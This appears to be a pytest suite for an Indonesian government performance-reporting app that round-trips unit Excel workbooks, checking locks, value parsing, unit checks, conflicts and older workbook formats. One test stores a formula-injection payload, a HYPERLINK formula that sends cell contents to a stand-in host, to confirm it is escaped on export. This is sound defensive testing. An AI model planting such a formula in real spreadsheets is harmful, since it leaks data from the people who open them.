"""Step 3 offline: a Kepala Bidang downloads the unit workbook, fills it in Excel, and uploads it back."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from core import entry, round_status
from core import unit_workbook as uw
from core.errors import Conflict, InvalidInput, NotAllowed
from core.steps import disposisi, isi_data
from core.uow import unit_of_work
from db.models import AuditLog, BudgetRealization, Realization

TODAY = dt.date(2026, 10, 5)


@pytest.fixture
def submission(db_url, actors) -> int:
    """TW III 2026 opened and distributed; the Bidang Pelatihan's submission."""
    with unit_of_work(db_url) as s:
        rnd = disposisi.open_round(s, actors["kadis"], 2026, 3, "Kumpulkan data TW III 2026.", dt.date(2026, 10, 15),
                                today=TODAY)
        subs = disposisi.distribute(s, actors["sekdis"], rnd.id)
        return next(x.id for x in subs if x.unit.code == "BID-LATTAS")


def filled(data: bytes, indicators: dict[str, dict[str, object]] | None = None,
           budget: dict[str, object] | None = None, edit=None) -> bytes:
    wb = load_workbook(io.BytesIO(data))
    ws = wb[uw.IND_SHEET]
    head = {c.value: c.column for c in ws[uw.HEADER_ROW]}
    for r in range(uw.HEADER_ROW + 1, ws.max_row + 1):
        for col, value in (indicators or {}).get(ws.cell(r, head["Kode"]).value, {}).items():
            ws.cell(r, head[col], value)
    bs = wb[uw.BUDGET_SHEET] if uw.BUDGET_SHEET in wb.sheetnames else None
    bhead = {c.value: c.column for c in bs[uw.HEADER_ROW]} if bs is not None else {}
    for r in range(uw.HEADER_ROW + 1, bs.max_row + 1 if bs is not None else 0):
        code = bs.cell(r, bhead["Kode"]).value
        if budget and code in budget:
            bs.cell(r, bhead["Realisasi TW"], budget[code])
    if edit:
        edit(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_workbook_has_targets_locked_and_entry_cells_unlocked(db_url, actors, submission):
    with unit_of_work(db_url) as s:
        data = uw.unit_workbook(s, actors["kabid_lattas"], submission)
    wb = load_workbook(io.BytesIO(data))
    ws = wb[uw.IND_SHEET]
    assert ws.protection.sheet
    assert "TW III 2026" in ws["A1"].value and "Bidang Pelatihan" in ws["A1"].value
    head = {c.value: c.column for c in ws[uw.HEADER_ROW]}
    row = uw.HEADER_ROW + 1
    assert ws.cell(row, head["Kode"]).value == "IKU-01"
    assert ws.cell(row, head["Target TW (RA)"]).value == pytest.approx(4.16)
    assert ws.cell(row, head["Target TW (RA)"]).protection.locked
    for col in uw.IND_ENTRY:
        assert not ws.cell(row, head[col]).protection.locked, col
    bs = wb[uw.BUDGET_SHEET]
    bhead = {c.value: c.column for c in bs[uw.HEADER_ROW]}
    assert bs.cell(uw.HEADER_ROW + 1, bhead["Pagu"]).value == 1250000000
    assert not bs.cell(uw.HEADER_ROW + 1, bhead["Realisasi TW"]).protection.locked
    assert wb[uw.INFO_SHEET].sheet_state == "hidden"


def test_kepala_bidang_fills_the_workbook_previews_and_applies_it(db_url, actors, submission):
    kabid = actors["kabid_lattas"]
    with unit_of_work(db_url) as s:
        data = uw.unit_workbook(s, kabid, submission)
    upload = filled(data, {"IK-03": {"Realisasi TW": "210", "Kendala": ""},
                           "IKU-01": {"Realisasi TW": "4,1", "Catatan": "Data BPS Agustus 2026"}},
                    budget={"2.07.03.2.01.0001": "300.000.000"})
    with unit_of_work(db_url) as s:
        preview = uw.parse_unit_workbook(s, kabid, submission, upload)
    assert preview.ok, preview.errors
    changes = {(r["Kode"], r["Kolom"]): (r["Sebelum"], r["Sesudah"]) for _, r in preview.changes.iterrows()}
    assert changes == {("IK-03", "Realisasi TW"): ("–", "210"), ("IKU-01", "Realisasi TW"): ("–", "4,1"),
                       ("IKU-01", "Catatan"): ("–", "Data BPS Agustus 2026"),
                       ("2.07.03.2.01.0001", "Realisasi anggaran TW"): ("–", "300.000.000")}
    with unit_of_work(db_url) as s:
        result = uw.apply_unit_workbook(s, kabid, submission, upload)
    assert (result.indicators, result.budget_lines) == (2, 1)
    with unit_of_work(db_url) as s:
        values = dict(s.execute(select(Realization.indicator_id, Realization.value)
                                .where(Realization.submission_id == submission)).all())
        assert sorted(values.values()) == [Decimal("4.1"), Decimal("210")]
        assert s.scalar(select(BudgetRealization.amount).where(BudgetRealization.submission_id == submission)) \
            == Decimal("300000000")
        assert s.scalar(select(func.count()).select_from(AuditLog)
                        .where(AuditLog.action == "realization.save")) == 2
        grid = entry.entry_table(s, kabid, submission)
    assert set(grid.loc[grid["Kode"] == "IK-03", "Realisasi TW"]) == {210.0}
    with unit_of_work(db_url) as s:  # the same file again changes nothing
        assert uw.parse_unit_workbook(s, kabid, submission, upload).count == 0


def test_text_in_realisasi_is_an_error_and_nothing_is_applied(db_url, actors, submission):
    kabid = actors["kabid_lattas"]
    with unit_of_work(db_url) as s:
        data = uw.unit_workbook(s, kabid, submission)
    upload = filled(data, {"IK-03": {"Realisasi TW": "dua ratus"}, "IK-04": {"Realisasi TW": 60}})
    with unit_of_work(db_url) as s:
        preview = uw.parse_unit_workbook(s, kabid, submission, upload)
        assert len(preview.errors) == 1 and "IK-03" in preview.errors[0] and "baris" in preview.errors[0]
        with pytest.raises(InvalidInput):
            uw.apply_unit_workbook(s, kabid, submission, upload)
    with unit_of_work(db_url) as s:
        assert s.scalar(select(func.count()).select_from(Realization)
                        .where(Realization.submission_id == submission)) == 0


def test_workbook_of_another_unit_is_refused(db_url, actors, submission):
    with unit_of_work(db_url) as s:
        data = uw.unit_workbook(s, actors["kabid_lattas"], submission)
        other = next(x.id for x in round_status.get_submission(s, submission).round.submissions
                     if x.unit.code == "BID-HIJS")
    with unit_of_work(db_url) as s, pytest.raises(InvalidInput, match="bukan untuk data yang sedang dibuka"):
        uw.parse_unit_workbook(s, actors["kabid_hijs"], other, data)
    with unit_of_work(db_url) as s, pytest.raises(NotAllowed):
        uw.apply_unit_workbook(s, actors["kabid_hijs"], submission, filled(data, {"IK-03": {"Realisasi TW": 1}}))


def test_a_value_saved_in_the_grid_after_download_stops_the_upload(db_url, actors, submission):
    kabid = actors["kabid_lattas"]
    with unit_of_work(db_url) as s:
        data = uw.unit_workbook(s, kabid, submission)
        ind = int(entry.entry_table(s, kabid, submission).set_index("Kode").loc["IK-03", "indicator_id"])
    with unit_of_work(db_url) as s:
        isi_data.save_entries(s, kabid, submission, {ind: {"Realisasi TW": 200}}, {ind: 0})
    with unit_of_work(db_url) as s, pytest.raises(Conflict):
        uw.apply_unit_workbook(s, kabid, submission, filled(data, {"IK-03": {"Realisasi TW": 150}}))
    with unit_of_work(db_url) as s:
        assert s.scalar(select(Realization.value).where(Realization.indicator_id == ind,
                                                        Realization.submission_id == submission)) == 200


def test_not_an_excel_file_is_refused(db_url, actors, submission):
    with unit_of_work(db_url) as s, pytest.raises(InvalidInput, match="bukan berkas Excel"):
        uw.parse_unit_workbook(s, actors["kabid_lattas"], submission, b"Kode;Realisasi\nIK-03;5\n")


def test_isi_data_page_offers_the_workbook_and_applies_an_upload(sqlite_url):
    from core.auth import actor_for
    from tests.apptest import logged_in, texts

    with unit_of_work(sqlite_url) as s:
        rnd = disposisi.open_round(s, actor_for(s, "kadis"), 2026, 3, "Kumpulkan data TW III 2026.",
                                dt.date(2099, 10, 15), today=TODAY)
        sub = next(x.id for x in disposisi.distribute(s, actor_for(s, "sekdis"), rnd.id) if x.unit.code == "BID-LATTAS")
        kabid = actor_for(s, "kabid_lattas")
        data = uw.unit_workbook(s, kabid, sub)
    at = logged_in("kabid_lattas", "pages/isi_data.py")
    assert not at.exception, at.exception
    assert "Lembar kerja Excel" in texts(at)
    assert any(b.proto.label == "Unduh lembar kerja (.xlsx)" for b in at.get("download_button"))
    upload = filled(data, {"IK-04": {"Realisasi TW": 70}})
    with unit_of_work(sqlite_url) as s:
        uw.apply_unit_workbook(s, kabid, sub, upload)
        assert s.scalar(select(Realization.value).where(Realization.submission_id == sub)) == 70


def test_formula_like_kendala_round_trips_without_a_spurious_change(db_url, actors, submission):
    """The writer rule puts an apostrophe before '=HYPERLINK(…)'; reading the workbook back takes it off."""
    kabid = actors["kabid_lattas"]
    hostile = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'
    with unit_of_work(db_url) as s:
        ind_id = int(entry.entry_table(s, kabid, submission).iloc[0]["indicator_id"])
        isi_data.save_entries(s, kabid, submission, {ind_id: {"Kendala": hostile, "Tindak lanjut": "+1+2"}})
    with unit_of_work(db_url) as s:
        data = uw.unit_workbook(s, kabid, submission)
    ws = load_workbook(io.BytesIO(data))[uw.IND_SHEET]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + hostile in [c.value for c in cells]
    with unit_of_work(db_url) as s:
        preview = uw.parse_unit_workbook(s, kabid, submission, data)
    assert preview.ok and preview.count == 0, preview.changes


def test_a_unit_without_dpa_lines_gets_no_budget_sheet_and_its_workbook_still_applies(db_url, actors, submission):
    """The JFT group has no DPA lines: its workbook asks nothing about a budget; the hidden Info sheet names its
    rows in words, and the filled workbook is read back."""
    with unit_of_work(db_url) as s:
        sub = next(c for c in entry.my_submissions(s, actors["jft_mediator"]))
        data = uw.unit_workbook(s, actors["jft_mediator"], sub.id)
        code = entry.entry_table(s, actors["jft_mediator"], sub.id)["Kode"].iloc[0]
    wb = load_workbook(io.BytesIO(data))
    assert uw.BUDGET_SHEET not in wb.sheetnames
    assert [r[0].value for r in wb[uw.INFO_SHEET].iter_rows()] == list(uw.INFO_LABELS.values())
    with unit_of_work(db_url) as s:
        preview = uw.parse_unit_workbook(s, actors["jft_mediator"], sub.id,
                                         filled(data, {code: {"Realisasi TW": "12,5"}}))
    assert preview.ok and preview.count == 1, preview.errors


def test_a_workbook_downloaded_before_the_info_sheet_was_in_words_is_still_read(db_url, actors, submission):
    def old_keys(wb):
        info = wb[uw.INFO_SHEET]
        for row, key in zip(info.iter_rows(), uw.INFO_LABELS):
            row[0].value = key  # submission_id, unit, triwulan: as workbooks made before were written

    with unit_of_work(db_url) as s:
        data = uw.unit_workbook(s, actors["kabid_lattas"], submission)
        preview = uw.parse_unit_workbook(s, actors["kabid_lattas"], submission,
                                         filled(data, {"IK-03": {"Realisasi TW": "1.250"}}, edit=old_keys))
    assert preview.ok and preview.count == 1, preview.errors


def test_faktor_pendorong_round_trips_through_the_workbook(db_url, actors, submission):
    kabid = actors["kabid_lattas"]
    with unit_of_work(db_url) as s:
        data = uw.unit_workbook(s, kabid, submission)
    upload = filled(data, {"IK-03": {"Realisasi TW": "1.250", "Faktor pendorong": "Job fair bersama APINDO."}})
    with unit_of_work(db_url) as s:
        preview = uw.parse_unit_workbook(s, kabid, submission, upload)
    assert preview.ok, preview.errors
    changes = {(r["Kode"], r["Kolom"]): (r["Sebelum"], r["Sesudah"]) for _, r in preview.changes.iterrows()}
    assert changes[("IK-03", "Faktor pendorong")] == ("–", "Job fair bersama APINDO.")
    with unit_of_work(db_url) as s:
        uw.apply_unit_workbook(s, kabid, submission, upload)
    with unit_of_work(db_url) as s:
        stored = s.scalar(select(Realization.faktor_pendorong).where(Realization.submission_id == submission,
                                                                     Realization.value == Decimal(1250)))
    assert stored == "Job fair bersama APINDO."


def test_a_workbook_downloaded_before_faktor_pendorong_is_still_read_and_keeps_it(db_url, actors, submission):
    """An older workbook has no Faktor pendorong column: it reads, and leaves the saved faktor pendorong alone."""
    kabid = actors["kabid_lattas"]
    with unit_of_work(db_url) as s:
        ik03 = int(entry.entry_table(s, kabid, submission).set_index("Kode").loc["IK-03", "indicator_id"])
        isi_data.save_entries(s, kabid, submission, {ik03: {"Faktor pendorong": "Sudah diisi di aplikasi."}})
        data = uw.unit_workbook(s, kabid, submission)

    def without_column(wb):
        ws = wb[uw.IND_SHEET]
        head = {c.value: c.column for c in ws[uw.HEADER_ROW]}
        ws.delete_cols(head["Faktor pendorong"])

    upload = filled(data, {"IK-03": {"Realisasi TW": "210"}}, edit=without_column)
    with unit_of_work(db_url) as s:
        preview = uw.parse_unit_workbook(s, kabid, submission, upload)
        assert preview.ok and preview.count == 1, preview.errors
        uw.apply_unit_workbook(s, kabid, submission, upload)
    with unit_of_work(db_url) as s:
        real = s.scalar(select(Realization).where(Realization.submission_id == submission,
                                                  Realization.indicator_id == ik03))
        assert real.value == Decimal(210) and real.faktor_pendorong == "Sudah diisi di aplikasi."
